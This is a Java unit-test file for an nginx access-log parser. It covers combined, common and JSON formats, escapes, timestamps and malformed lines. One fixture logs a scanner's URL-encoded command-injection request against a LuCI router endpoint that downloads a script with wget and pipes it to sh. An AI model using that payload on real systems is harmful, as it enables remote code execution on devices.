package io.logd.parse.nginx;

import static io.logd.testing.BodyParserChecks.HEADER_TIME;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertNull;
import static org.junit.jupiter.api.Assertions.assertTrue;

import io.logd.event.FieldValue;
import io.logd.event.LogEvent;
import io.logd.event.Severity;
import io.logd.testing.BodyParserChecks;
import java.time.Instant;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class NginxParserTest {
  final NginxParser parser = new NginxParser();

  LogEvent ok(String line) {
    return BodyParserChecks.parsed(parser, line);
  }

  String refused(String line) {
    return BodyParserChecks.refused(parser, line);
  }

  static FieldValue s(String v) {
    return FieldValue.of(v);
  }

  static FieldValue l(long v) {
    return FieldValue.of(v);
  }

  @Test
  void combinedLineFromTheNginxDocs() {
    String line = "93.184.216.34 - - [10/Oct/2000:13:55:36 -0700] \"GET /apache_pb.gif HTTP/1.0\" 200 2326 "
        + "\"http://www.example.com/start.html\" \"Mozilla/4.08 [en] (Win98; I ;Nav)\"";
    LogEvent e = ok(line);
    assertEquals(Instant.parse("2000-10-10T20:55:36Z"), e.timestamp());
    assertEquals(Map.of(
        "pid", l(42), "client_ip", s("93.184.216.34"), "method", s("GET"), "path", s("/apache_pb.gif"),
        "protocol", s("HTTP/1.0"), "status", l(200), "bytes", l(2326),
        "referer", s("http://www.example.com/start.html"), "user_agent", s("Mozilla/4.08 [en] (Win98; I ;Nav)")),
        e.fields());
    assertEquals(line, e.message(), "the message stays the whole line");
    assertEquals(Severity.NOTICE, e.level(), "the level is the header's");
    assertEquals("web-1", e.host());
    assertEquals("app", e.service());
  }

  @Test
  void googlebotWithDashReferer() {
    LogEvent e = ok("66.249.66.1 - - [17/May/2015:10:05:03 +0000] \"GET /robots.txt HTTP/1.1\" 200 67 \"-\" "
        + "\"Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)\"");
    assertEquals(Instant.parse("2015-05-17T10:05:03Z"), e.timestamp());
    assertNull(e.fields().get("referer"), "a '-' referer is absent");
    assertNull(e.fields().get("remote_user"));
    assertEquals(s("Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)"), e.fields().get("user_agent"));
    assertEquals(l(67), e.fields().get("bytes"));
  }

  @Test
  void ipv6ClientHttp2AndQueryString() {
    LogEvent e = ok("2001:db8:85a3::8a2e:370:7334 - - [23/Nov/2026:11:00:00 +0100] "
        + "\"GET /api/v1/users?page=2&sort=desc HTTP/2.0\" 304 0 \"https://example.com/app\" "
        + "\"Mozilla/5.0 (iPhone; CPU iPhone OS 17_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) "
        + "Version/17.1 Mobile/15E148 Safari/604.1\"");
    assertEquals(Instant.parse("2026-11-23T10:00:00Z"), e.timestamp());
    assertEquals(s("2001:db8:85a3::8a2e:370:7334"), e.fields().get("client_ip"));
    assertEquals(s("/api/v1/users?page=2&sort=desc"), e.fields().get("path"));
    assertEquals(s("HTTP/2.0"), e.fields().get("protocol"));
    assertEquals(l(304), e.fields().get("status"));
    assertEquals(l(0), e.fields().get("bytes"));
    assertEquals(s("https://example.com/app"), e.fields().get("referer"));
  }

  @Test
  void longChromeUserAgentAndRemoteUser() {
    String ua = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
        + "Chrome/120.0.0.0 Safari/537.36 Edg/120.0.0.0";
    LogEvent e = ok("192.0.2.10 - alice [01/Jan/2024:00:30:00 +0530] \"POST /login HTTP/1.1\" 302 0 "
        + "\"https://example.com/login?next=%2Fadmin\" \"" + ua + "\"");
    assertEquals(Instant.parse("2023-12-31T19:00:00Z"), e.timestamp());
    assertEquals(s("alice"), e.fields().get("remote_user"));
    assertEquals(s("POST"), e.fields().get("method"));
    assertEquals(s(ua), e.fields().get("user_agent"));
    assertEquals(s("https://example.com/login?next=%2Fadmin"), e.fields().get("referer"));
  }

  @Test
  void dashRequestStillParses() {
    LogEvent e = ok("185.254.196.173 - - [22/Nov/2026:23:59:59 +0000] \"-\" 400 0 \"-\" \"-\"");
    assertEquals(Map.of("pid", l(42), "client_ip", s("185.254.196.173"), "status", l(400), "bytes", l(0)), e.fields());
    assertEquals(Instant.parse("2026-11-22T23:59:59Z"), e.timestamp());
  }

  @Test
  void tlsHandshakeOnThePlainPortKeepsTheRawRequest() {
    String garbage = "\\x16\\x03\\x01\\x00\\xEE\\x01\\x00\\x00\\xEA\\x03\\x03\\x8B\\x1A\\x9F";
    LogEvent e = ok("45.155.205.233 - - [05/Jan/2024:03:12:44 +0000] \"" + garbage + "\" 400 157 \"-\" \"-\"");
    assertEquals(s(garbage), e.fields().get("request"), "kept as logged, escapes included");
    assertEquals(l(400), e.fields().get("status"));
    assertEquals(l(157), e.fields().get("bytes"));
    assertEquals(s("45.155.205.233"), e.fields().get("client_ip"));
    assertNull(e.fields().get("method"));
    assertNull(e.fields().get("path"));
  }

  @ParameterizedTest
  @ValueSource(strings = {
    // RDP cookie probe: has spaces but no method
    "\\x03\\x00\\x00/*\\xE0\\x00\\x00\\x00\\x00\\x00Cookie: mstshash=Administr",
    // scanner banner with an escaped newline
    "MGLNDD_203.0.113.1_443\\x0A",
    // lower-case "method"
    "get / HTTP/1.1",
    // a method and spaces but no protocol
    "GET /a b",
  })
  void malformedRequestLinesKeepStatusAndBytes(String request) {
    LogEvent e = ok("198.51.100.4 - - [12/Mar/2024:08:15:02 +0000] \"" + request + "\" 400 150 \"-\" \"-\"");
    assertEquals(s(request), e.fields().get("request"));
    assertEquals(l(400), e.fields().get("status"));
    assertEquals(l(150), e.fields().get("bytes"));
    assertNull(e.fields().get("method"));
  }

  @Test
  void unusualButWellFormedRequests() {
    LogEvent e = ok("198.51.100.4 - - [12/Mar/2024:08:15:02 +0000] \"PRI * HTTP/2.0\" 400 150 \"-\" \"-\"");
    assertEquals(s("PRI"), e.fields().get("method"));
    assertEquals(s("*"), e.fields().get("path"));
    e = ok("198.51.100.4 - - [12/Mar/2024:08:15:02 +0000] \"CONNECT www.example.com:443 HTTP/1.1\" 400 150 \"-\" \"-\"");
    assertEquals(s("CONNECT"), e.fields().get("method"));
    assertEquals(s("www.example.com:443"), e.fields().get("path"));
    e = ok("198.51.100.4 - - [12/Mar/2024:08:15:02 +0000] "
        + "\"SSTP_DUPLEX_POST /sra_{BA195980-CD49-458b-9E23-C84EE0ADCD75}/ HTTP/1.1\" 400 150 \"-\" \"-\"");
    assertEquals(s("SSTP_DUPLEX_POST"), e.fields().get("method"));
    e = ok("198.51.100.4 - - [12/Mar/2024:08:15:02 +0000] \"GET /index.html\" 200 150 \"-\" \"-\"");
    assertEquals(s("/index.html"), e.fields().get("path"), "HTTP/0.9 has no protocol");
    assertNull(e.fields().get("protocol"));
    e = ok("198.51.100.4 - - [12/Mar/2024:08:15:02 +0000] "
        + "\"GET /cgi-bin/luci/;stok=/locale?form=country&operation=write&country=$(id%3E%60wget+http%3A%2F%2F"
        + "1.2.3.4%2Ft+-O-+|+sh%60) HTTP/1.1\" 400 150 \"-\" \"Go-http-client/1.1\"");
    assertTrue(e.fields().get("path").asText().startsWith("/cgi-bin/luci/;stok=/locale?form=country"));
  }

  @Test
  void nginxEscapesDoNotBreakTheTokenizer() {
    LogEvent e = ok("203.0.113.5 - - [12/Mar/2024:08:15:02 +0000] \"GET /search?q=\\x22hello\\x22 HTTP/1.1\" 200 512 "
        + "\"https://example.com/?q=\\x22a b\\x22\" \"Mozilla/5.0 \\x22evil\\x22 \\x5C\"");
    assertEquals(s("/search?q=\"hello\""), e.fields().get("path"));
    assertEquals(s("https://example.com/?q=\"a b\""), e.fields().get("referer"));
    assertEquals(s("Mozilla/5.0 \"evil\" \\"), e.fields().get("user_agent"));
    assertEquals(l(512), e.fields().get("bytes"));
  }

  @Test
  void backslashQuoteEscapesAsApacheWritesThem() {
    LogEvent e = ok("203.0.113.5 - - [12/Mar/2024:08:15:02 +0000] \"GET /a\\\"b HTTP/1.1\" 200 5 "
        + "\"-\" \"sqlmap/1.7 \\\"x\\\\\\\"\"");
    assertEquals(s("/a\"b"), e.fields().get("path"));
    assertEquals(s("sqlmap/1.7 \"x\\\""), e.fields().get("user_agent"));
  }

  @Test
  void escapedUtf8BytesAreDecoded() {
    LogEvent e = ok("203.0.113.5 - - [12/Mar/2024:08:15:02 +0000] "
        + "\"GET /\\xD0\\xBF\\xD1\\x80\\xD0\\xB8\\xD0\\xB2\\xD0\\xB5\\xD1\\x82?x=1 HTTP/1.1\" 404 0 \"-\" \"-\"");
    assertEquals(s("/привет?x=1"), e.fields().get("path"));
  }

  @Test
  void commonFormat() {
    LogEvent e = ok("127.0.0.1 - frank [10/Oct/2000:13:55:36 -0700] \"GET /apache_pb.gif HTTP/1.0\" 200 2326");
    assertEquals(Map.of("pid", l(42), "client_ip", s("127.0.0.1"), "remote_user", s("frank"), "method", s("GET"),
        "path", s("/apache_pb.gif"), "protocol", s("HTTP/1.0"), "status", l(200), "bytes", l(2326)), e.fields());
    e = ok("127.0.0.1 - - [10/Oct/2000:13:55:36 -0700] \"HEAD / HTTP/1.1\" 304 -");
    assertNull(e.fields().get("bytes"), "Apache's %b writes '-' for no body");
    assertEquals(l(304), e.fields().get("status"));
  }

  @Test
  void mainFormatWithForwardedFor() {
    LogEvent e = ok("10.0.0.5 - - [12/Mar/2024:08:15:02 +0000] \"GET / HTTP/1.1\" 200 612 \"-\" "
        + "\"curl/8.4.0\" \"198.51.100.7, 10.0.0.1\"");
    assertEquals(s("198.51.100.7, 10.0.0.1"), e.fields().get("http_x_forwarded_for"));
    e = ok("10.0.0.5 - - [12/Mar/2024:08:15:02 +0000] \"GET / HTTP/1.1\" 200 612 \"-\" \"curl/8.4.0\" \"-\"");
    assertNull(e.fields().get("http_x_forwarded_for"));
    // pid, client_ip, method, path, protocol, status, bytes, user_agent
    assertEquals(8, e.fields().size(), e.fields().toString());
  }

  @Test
  void trailingRequestTimeAndKeyValues() {
    LogEvent e = ok("10.0.0.5 - - [12/Mar/2024:08:15:02 +0000] \"GET / HTTP/1.1\" 200 612 \"-\" \"curl/8.4.0\" 0.004");
    assertEquals(FieldValue.of(0.004), e.fields().get("request_time"));

    e = ok("10.0.0.5 - - [12/Mar/2024:08:15:02 +0000] \"GET /api HTTP/1.1\" 502 166 \"-\" \"curl/8.4.0\" \"-\" "
        + "rt=0.123 uct=\"0.000\" uht=\"0.120\" urt=\"0.121, 0.002\" ua=\"10.0.0.9:8080\" cs=MISS");
    assertEquals(FieldValue.of(0.123), e.fields().get("request_time"));
    assertEquals(FieldValue.of(0.0), e.fields().get("uct"));
    assertEquals(FieldValue.of(0.12), e.fields().get("uht"));
    assertEquals(s("0.121, 0.002"), e.fields().get("urt"));
    assertEquals(s("10.0.0.9:8080"), e.fields().get("ua"));
    assertEquals(s("MISS"), e.fields().get("cs"));

    e = ok("10.0.0.5 - - [12/Mar/2024:08:15:02 +0000] \"GET / HTTP/1.1\" 200 612 \"-\" \"curl/8.4.0\" "
        + "\"example.com\" 512 1.250 0.998 - 10.0.0.9:8080");
    assertEquals(s("example.com"), e.fields().get("extra_1"));
    assertEquals(l(512), e.fields().get("extra_2"), "an integer is not a request time");
    assertEquals(FieldValue.of(1.25), e.fields().get("request_time"));
    assertEquals(FieldValue.of(0.998), e.fields().get("extra_3"));
    assertNull(e.fields().get("extra_4"), "'-' is dropped but keeps its position");
    assertEquals(s("10.0.0.9:8080"), e.fields().get("extra_5"));
  }

  @Test
  void aLineCutShortBySyslogKeepsWhatItHas() {
    LogEvent e = ok("10.0.0.5 - - [12/Mar/2024:08:15:02 +0000] \"GET / HTTP/1.1\" 200 612 \"https://example.com/\" "
        + "\"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWeb");
    assertEquals(s("Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWeb"), e.fields().get("user_agent"));
    assertEquals(s("https://example.com/"), e.fields().get("referer"));
  }

  @Test
  void surroundingWhitespaceAndOtherTimeForms() {
    LogEvent e = ok("  10.0.0.5 - - [29/Feb/2024:12:00:00 +0000] \"GET / HTTP/1.1\" 200 1 \"-\" \"-\"\r\n");
    assertEquals(Instant.parse("2024-02-29T12:00:00Z"), e.timestamp());
    e = ok("10.0.0.5 - - [2024-03-12T08:15:02+01:00] \"GET / HTTP/1.1\" 200 1 \"-\" \"-\"");
    assertEquals(Instant.parse("2024-03-12T07:15:02Z"), e.timestamp(), "$time_iso8601 in brackets");
    e = ok("10.0.0.5 - - [1710231302.123] \"GET / HTTP/1.1\" 200 1 \"-\" \"-\"");
    assertEquals(Instant.parse("2024-03-12T08:15:02.123Z"), e.timestamp(), "$msec in brackets");
  }

  @Test
  void localTimeArithmeticMatchesJavaTime() {
    String[] months = {"Jan", "Feb", "Mar", "Apr", "May", "Jun", "Jul", "Aug", "Sep", "Oct", "Nov", "Dec"};
    java.util.SplittableRandom rnd = new java.util.SplittableRandom(7);
    for (int k = 0; k < 10_000; k++) {
      int year = rnd.nextInt(1971, 2260);
      int month = rnd.nextInt(1, 13);
      int day = rnd.nextInt(1, java.time.YearMonth.of(year, month).lengthOfMonth() + 1);
      int h = rnd.nextInt(24);
      int m = rnd.nextInt(60);
      int sec = rnd.nextInt(60);
      int offMin = rnd.nextInt(-12 * 60, 14 * 60 + 1);
      String text = String.format("%02d/%s/%04d:%02d:%02d:%02d %s%02d%02d", day, months[month - 1], year, h, m, sec,
          offMin < 0 ? "-" : "+", Math.abs(offMin) / 60, Math.abs(offMin) % 60);
      long expected = java.time.OffsetDateTime.of(year, month, day, h, m, sec, 0,
          java.time.ZoneOffset.ofTotalSeconds(offMin * 60)).toEpochSecond() * 1_000_000_000L;
      assertEquals(expected, NginxParser.localTime(text, 0, text.length()), text);
    }
  }

  @Test
  void jsonLogFormat() {
    LogEvent e = ok("""
        {"time_local":"23/Nov/2026:10:00:00 +0000","remote_addr":"10.1.2.3","remote_user":"","request":"GET /index.html?a=1 HTTP/1.1",\
        "status": "200","body_bytes_sent":"512","request_time":"0.003","http_referrer":"","http_user_agent":"curl/8.5.0",\
        "http_x_forwarded_for":"-","upstream_addr":"10.0.0.9:8080"}""");
    assertEquals(Instant.parse("2026-11-23T10:00:00Z"), e.timestamp());
    assertEquals(Map.of("pid", l(42), "client_ip", s("10.1.2.3"), "method", s("GET"), "path", s("/index.html?a=1"),
        "protocol", s("HTTP/1.1"), "status", l(200), "bytes", l(512), "request_time", FieldValue.of(0.003),
        "user_agent", s("curl/8.5.0"), "upstream_addr", s("10.0.0.9:8080")), e.fields());
    assertEquals(Severity.NOTICE, e.level());
  }

  @Test
  void jsonLogFormatWithSplitRequestVariablesAndNumbers() {
    LogEvent e = ok("""
        {"time_iso8601":"2024-03-12T08:15:02+00:00","msec":"1710231302.456","remote_addr":"2001:db8::1",\
        "request_method":"POST","request_uri":"/api/v1/orders?x=1","uri":"/api/v1/orders","server_protocol":"HTTP/2.0",\
        "status":201,"bytes_sent":1024,"body_bytes_sent":800,"http_referer":"https://shop.example/cart",\
        "request_time":0.125,"upstream_response_time":"0.120","host":"shop.example","ssl_protocol":"TLSv1.3"}""");
    assertEquals(Instant.parse("2024-03-12T08:15:02Z"), e.timestamp(), "time_iso8601 wins over msec");
    assertEquals(s("POST"), e.fields().get("method"));
    assertEquals(s("/api/v1/orders?x=1"), e.fields().get("path"));
    assertEquals(s("/api/v1/orders"), e.fields().get("uri"), "a uri that did not give the path stays");
    assertEquals(s("HTTP/2.0"), e.fields().get("protocol"));
    assertEquals(l(201), e.fields().get("status"));
    assertEquals(l(800), e.fields().get("bytes"));
    assertEquals(l(1024), e.fields().get("bytes_sent"));
    assertEquals(s("https://shop.example/cart"), e.fields().get("referer"));
    assertEquals(FieldValue.of(0.125), e.fields().get("request_time"));
    assertEquals(s("0.120"), e.fields().get("upstream_response_time"));
    assertEquals(s("shop.example"), e.fields().get("host"), "a field; the event's host stays the header's");
    assertEquals("web-1", e.host());
    assertEquals(s("1710231302.456"), e.fields().get("msec"), "a time form that did not give the time stays");
  }

  @Test
  void jsonLogFormatFallbacks() {
    LogEvent e = ok("{\"msec\":\"1710231302.456\",\"remote_addr\":\"10.0.0.1\",\"uri\":\"/x\",\"bytes_sent\":\"99\","
        + "\"request\":\"\\u0016\\u0003\\u0001\",\"status\":\"400\"}");
    assertEquals(Instant.parse("2024-03-12T08:15:02.456Z"), e.timestamp());
    assertEquals(s("/x"), e.fields().get("path"));
    assertEquals(l(99), e.fields().get("bytes"));
    assertEquals(s("\u0016\u0003\u0001"), e.fields().get("request"), "a request that does not split is kept");
    e = ok("{\"remote_addr\":\"10.0.0.1\",\"request\":\"-\",\"status\":\"400\",\"body_bytes_sent\":\"0\"}");
    assertEquals(HEADER_TIME, e.timestampNanos(), "no time: the header's stays");
    assertNull(e.fields().get("request"));
    e = ok("{\"remote_addr\":\"10.0.0.1\",\"request\":\"\\u0016\\u0003\",\"status\":\"400\"}");
    assertEquals(s("\u0016\u0003"), e.fields().get("request"));
  }

  @Test
  void jsonFailuresChangeNothing() {
    assertTrue(refused("{\"level\":\"info\",\"msg\":\"not nginx\"}").startsWith("nginx: the JSON object has none of"));
    assertTrue(refused("{\"remote_addr\":\"10.0.0.1\",").startsWith("nginx: line 1"));
    assertEquals("nginx: cannot read the time 'yesterday'",
        refused("{\"remote_addr\":\"10.0.0.1\",\"time_iso8601\":\"yesterday\"}"));
    assertEquals("nginx: cannot read the time '32/Nov/2026:10:00:00 +0000'",
        refused("{\"remote_addr\":\"10.0.0.1\",\"time_local\":\"32/Nov/2026:10:00:00 +0000\"}"));
    assertEquals("nginx: unexpected content after the JSON object", refused("{\"status\":\"200\"} {}"));
    // escape=default inside a JSON format writes \x22, which is not JSON
    assertTrue(refused("{\"remote_addr\":\"10.0.0.1\",\"request\":\"GET /\\x22 HTTP/1.1\"}").startsWith("nginx: "));
  }

  @Test
  void malformedLinesAreRefusedWithAColumnAndChangeNothing() {
    String base = "10.0.0.5 - - [12/Mar/2024:08:15:02 +0000] \"GET / HTTP/1.1\" ";
    assertEquals("nginx: expected the status at column 60", refused(base + "abc 12"));
    assertEquals("nginx: expected '\"' before the request at column 43",
        refused("10.0.0.5 - - [12/Mar/2024:08:15:02 +0000] GET / HTTP/1.1 200 12"));
    assertEquals("nginx: no '\"' closes the request opened at column 43",
        refused("10.0.0.5 - - [12/Mar/2024:08:15:02 +0000] \"GET / HTTP/1.1 200 12"));
    assertEquals("nginx: cannot read the time '12/Foo/2024:08:15:02 +0000' at column 15",
        refused("10.0.0.5 - - [12/Foo/2024:08:15:02 +0000] \"GET / HTTP/1.1\" 200 12"));
    assertEquals("nginx: expected the body size at column 63", refused(base + "200"));
    assertEquals("nginx: expected the body size at column 64", refused(base + "200 12x"));
    assertEquals("nginx: expected the status at column 60", refused(base + "2000 12"));
    assertTrue(refused("hello world").startsWith("nginx: expected the remote user"));
    assertTrue(refused("").startsWith("nginx: expected the client address"));
    assertTrue(refused("Nov 23 10:00:00 sshd[42]: Accepted publickey for root").startsWith("nginx: "));
    for (String time : List.of("29/Feb/2023:12:00:00 +0000", "31/Apr/2024:12:00:00 +0000", "12/Mar/2024:24:00:00 +0000",
        "12/Mar/2024:08:60:02 +0000", "12/Mar/2024:08:15:02 0000", "01/Jan/1969:00:00:00 +0000",
        "01/Jan/2300:00:00:00 +0000", "00/Jan/2024:00:00:00 +0000")) {
      String reason = refused("10.0.0.5 - - [" + time + "] \"GET / HTTP/1.1\" 200 12");
      assertEquals("nginx: cannot read the time '" + time + "' at column 15", reason);
    }
  }

  @Test
  void looksLike() {
    assertTrue(parser.looksLike("93.184.216.34 - - [10/Oct/2000:13:55:36 -0700] \"GET / HTTP/1.0\" 200 2326 \"-\" \"-\""));
    assertTrue(parser.looksLike("127.0.0.1 - frank [10/Oct/2000:13:55:36 -0700] \"GET /apache_pb.gif HTTP/1.0\" 200 2326"));
    assertTrue(parser.looksLike("{\"remote_addr\":\"10.0.0.1\",\"status\":\"200\"}"));
    assertFalse(parser.looksLike("{\"level\":\"info\",\"msg\":\"x\"}"));
    assertFalse(parser.looksLike("time=2023-01-01T10:00:00Z level=INFO msg=hello"));
    assertFalse(parser.looksLike("2025/11/17 10:15:23 from 1.2.3.4:5 accepted tcp:a.b:443 [in >> out]"));
    assertFalse(parser.looksLike("hello world"));
    assertFalse(parser.looksLike(""));
  }

  @Test
  void randomInputNeverThrows() {
    BodyParserChecks.survivesGarbage(parser, List.of(
        "93.184.216.34 - - [10/Oct/2000:13:55:36 -0700] \"GET /apache_pb.gif HTTP/1.0\" 200 2326 "
            + "\"http://www.example.com/start.html\" \"Mozilla/4.08 [en] (Win98; I ;Nav)\" 0.004 rt=0.1 x=\"a\\\"b\"",
        "45.155.205.233 - - [05/Jan/2024:03:12:44 +0000] \"\\x16\\x03\\x01\\x00\" 400 157 \"-\" \"-\" \"1.2.3.4\"",
        "127.0.0.1 - frank [10/Oct/2000:13:55:36 -0700] \"GET /\\xD0\\xBF HTTP/1.0\" 200 -",
        "{\"time_local\":\"23/Nov/2026:10:00:00 +0000\",\"remote_addr\":\"10.1.2.3\",\"request\":\"GET / HTTP/1.1\","
            + "\"status\":\"200\",\"body_bytes_sent\":\"512\",\"request_time\":\"0.003\",\"x\":{\"y\":[1]}}"),
        50_000);
  }
}
